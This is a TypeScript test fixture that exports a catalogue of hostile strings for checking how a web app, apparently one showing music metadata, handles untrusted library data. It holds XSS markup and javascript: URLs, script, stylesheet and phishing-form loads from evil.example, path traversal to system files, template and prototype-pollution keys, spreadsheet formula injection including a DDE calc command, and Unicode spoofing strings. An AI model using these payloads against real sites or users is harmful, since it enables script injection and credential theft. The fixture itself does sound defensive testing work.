// What a hostile library could hold, for tests alone. Whatever runs sets `ran` or opens a dialog; whatever becomes an
// element carries `data-payload`.

const run = 'globalThis.ran=1;alert(1)'

const markup: readonly string[] = [
  `<script data-payload>${run}</script>`,
  `<SCRIPT data-payload>${run}</SCRIPT>`,
  `<scr<script>ipt data-payload>${run}</script>`,
  `"><script data-payload>${run}</script>`,
  `'><script data-payload>${run}</script>`,
  `</title><script data-payload>${run}</script>`,
  `</textarea><script data-payload>${run}</script>`,
  `--><script data-payload>${run}</script>`,
  `]]><script data-payload>${run}</script>`,
  `<script data-payload src="https://evil.example/x.js"></script>`,
  `<script data-payload src=//evil.example/x.js>`,
  `<img data-payload src=x onerror="${run}">`,
  `<img data-payload src="https://evil.example/pixel.png">`,
  `<img/data-payload/src=x/onerror=${run}>`,
  `<svg data-payload onload="${run}">`,
  `<svg data-payload><script>${run}</script></svg>`,
  `<svg data-payload><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
  `<math data-payload><mtext><table><mglyph><style><img src=x onerror="${run}"></style></table></math>`,
  `<iframe data-payload src="javascript:${run}"></iframe>`,
  `<iframe data-payload srcdoc="<script>${run}</script>"></iframe>`,
  `<object data-payload data="data:text/html,<script>${run}</script>"></object>`,
  `<embed data-payload src="https://evil.example/x.swf">`,
  `<link data-payload rel=stylesheet href="https://evil.example/x.css">`,
  `<style data-payload>@import 'https://evil.example/x.css'; * { display: none }</style>`,
  `<base data-payload href="https://evil.example/">`,
  `<meta data-payload http-equiv=refresh content="0;url=https://evil.example/">`,
  `<form data-payload action="https://evil.example/"><input name=password autofocus onfocus="${run}"></form>`,
  `<details data-payload open ontoggle="${run}">`,
  `<video data-payload><source onerror="${run}"></video>`,
  `<body data-payload onload="${run}">`,
  `<a data-payload href="javascript:${run}">a playlist</a>`,
  `<a data-payload href="https://evil.example/login" target=_top>Log in again</a>`,
  `<template data-payload><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img data-payload src=x onerror=${run}>">`,
]

const addresses: readonly string[] = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `\u0001javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `vbscript:msgbox(1)`,
  `//evil.example/x`,
  `https://evil.example\\@i.scdn.co/image/x`,
  `https://i.scdn.co@evil.example/image/x`,
  `https://i.scdn.co.evil.example/image/x`,
  `url(https://evil.example/x.png)`,
  `x;background:url('https://evil.example/x.png')`,
  '../../../me/player',
  '..%2f..%2fme',
  '....//....//etc/passwd',
  'C:\\Windows\\System32\\drivers\\etc\\hosts',
  '?access_token=x&state=y#code=z',
]

const templates: readonly string[] = [
  '{{constructor.constructor("globalThis.ran=1")()}}',
  '${globalThis.ran=1}',
  '<%= globalThis.ran=1 %>',
  '#{globalThis.ran=1}',
  '{name}{count}{position}',
  '<link>not a part</link>',
  '%s %d %o %c',
]

const entities: readonly string[] = [
  '&lt;script&gt;globalThis.ran=1&lt;/script&gt;',
  '&amp;lt;img src=x onerror=globalThis.ran=1&amp;gt;',
  '&#60;img src=x onerror=globalThis.ran=1&#62;',
  '&#x3c;img src=x onerror=globalThis.ran=1&#x3e;',
  '&amp;amp;amp; &#0; &#xD800; &#x110000; &#99999999; &unknown; &',
]

const keys: readonly string[] = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'then',
  'length',
]

const cells: readonly string[] = [
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  '=cmd|"/c calc"!A0',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  'a","b\r\n"c',
]

const letters: readonly string[] = [
  '\u202egnp.exe\u202c',
  'never closed \u202e',
  '\u2066\u2066\u2067 isolates that nobody closes',
  'closed by nobody’s \u2069\u2069\u202c\u202c',
  'zero\u200bwidth\u200c and\u200d \ufeffjoined\u2060',
  '\u200b\u200b\u200b',
  'null\u0000byte and \u0007bell and \u001b[31mred',
  'line\none\r\nline two\u2028three\u2029four',
  '\ud800 alone, and alone \udc00',
  '👨‍👩‍👧‍👦🏳️‍🌈👩🏽‍🚀'.repeat(12),
  `Z${'\u0300\u0301\u0302\u0315\u0334\u0489'.repeat(40)}algo`,
  '\u0489'.repeat(400),
  '﷽'.repeat(40),
  'نص عربي with English و123',
  '  spaces \u00a0 at both ends  ',
  'W'.repeat(10_000),
  `${'long-'.repeat(2_000)}word`,
  'ab '.repeat(3_000),
]

/** None is empty; some are 10,000 characters long, and not all are well-formed Unicode. */
export const payloads: readonly string[] = [
  ...markup,
  ...addresses,
  ...templates,
  ...entities,
  ...keys,
  ...cells,
  ...letters,
]

/** Those that want to be followed. */
export const hostileAddresses: readonly string[] = addresses
